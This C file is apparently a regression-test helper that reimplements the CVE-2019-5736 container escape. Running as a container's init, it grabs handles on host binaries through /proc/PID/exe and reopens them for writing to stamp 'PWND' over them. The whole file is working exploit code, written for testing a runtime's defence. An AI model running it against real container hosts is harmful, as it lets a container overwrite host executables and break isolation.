/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * exewatch.c - the CVE-2019-5736 attacker, for tests/integration/test_exe.sh.
 *
 * Runs inside a container as its init. Until the file STOP exists (or SECONDS
 * pass), it scans /proc for processes other than itself, holds an O_PATH handle
 * on every /proc/PID/exe it can open that is not one of the container's own
 * programs (busybox or itself), and keeps trying to reopen each handle for
 * writing through /proc/self/fd: once the process that ran it has exec'd, the
 * text is no longer busy, and a handle on a host binary can then rewrite it.
 * A successful reopen writes "PWND" at offset 0, as the real attack would.
 *
 * Prints one line: "opened=N reopened=M written=K", exit 0.
 *
 *     exewatch STOP SECONDS
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HANDLES 1024

static int handles[MAX_HANDLES];
static int nhandles;

static int own_program(const struct stat *st, const struct stat *own, size_t nown)
{
	for (size_t i = 0; i < nown; i++)
		if (st->st_dev == own[i].st_dev && st->st_ino == own[i].st_ino)
			return 1;
	return 0;
}

static int known(const struct stat *st)
{
	for (int i = 0; i < nhandles; i++) {
		struct stat h;

		if (fstat(handles[i], &h) == 0 && h.st_dev == st->st_dev && h.st_ino == st->st_ino)
			return 1;
	}
	return 0;
}

static void scan(const struct stat *own, size_t nown, long *opened)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	pid_t self = getpid();

	if (!d)
		return;
	while ((e = readdir(d)) && nhandles < MAX_HANDLES) {
		char path[64];
		struct stat st;
		char *end;
		long pid = strtol(e->d_name, &end, 10);
		int fd;

		if (*end || pid <= 0 || pid == self)
			continue;
		(void)snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) < 0 || own_program(&st, own, nown) || known(&st)) {
			close(fd);
			continue;
		}
		handles[nhandles++] = fd;
		(*opened)++;
	}
	closedir(d);
}

static void try_write(long *reopened, long *written)
{
	for (int i = 0; i < nhandles; i++) {
		char path[64];
		int fd;

		if (handles[i] < 0)
			continue;
		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", handles[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		(*reopened)++;
		if (pwrite(fd, "PWND", 4, 0) == 4)
			(*written)++;
		close(fd);
		close(handles[i]);
		handles[i] = -1;
	}
}

int main(int argc, char **argv)
{
	struct stat own[2];
	long opened = 0, reopened = 0, written = 0;
	time_t until;

	if (argc != 3) {
		fprintf(stderr, "usage: exewatch STOP SECONDS\n");
		return 2;
	}
	until = time(NULL) + atol(argv[2]);
	if (stat("/proc/self/exe", &own[0]) < 0 || stat("/bin/busybox", &own[1]) < 0) {
		perror("exewatch: stat");
		return 2;
	}
	while (access(argv[1], F_OK) < 0 && time(NULL) < until) {
		scan(own, 2, &opened);
		try_write(&reopened, &written);
	}
	/* the last exec'd process is gone by now: its text is not busy any more */
	try_write(&reopened, &written);
	printf("opened=%ld reopened=%ld written=%ld\n", opened, reopened, written);
	return 0;
}
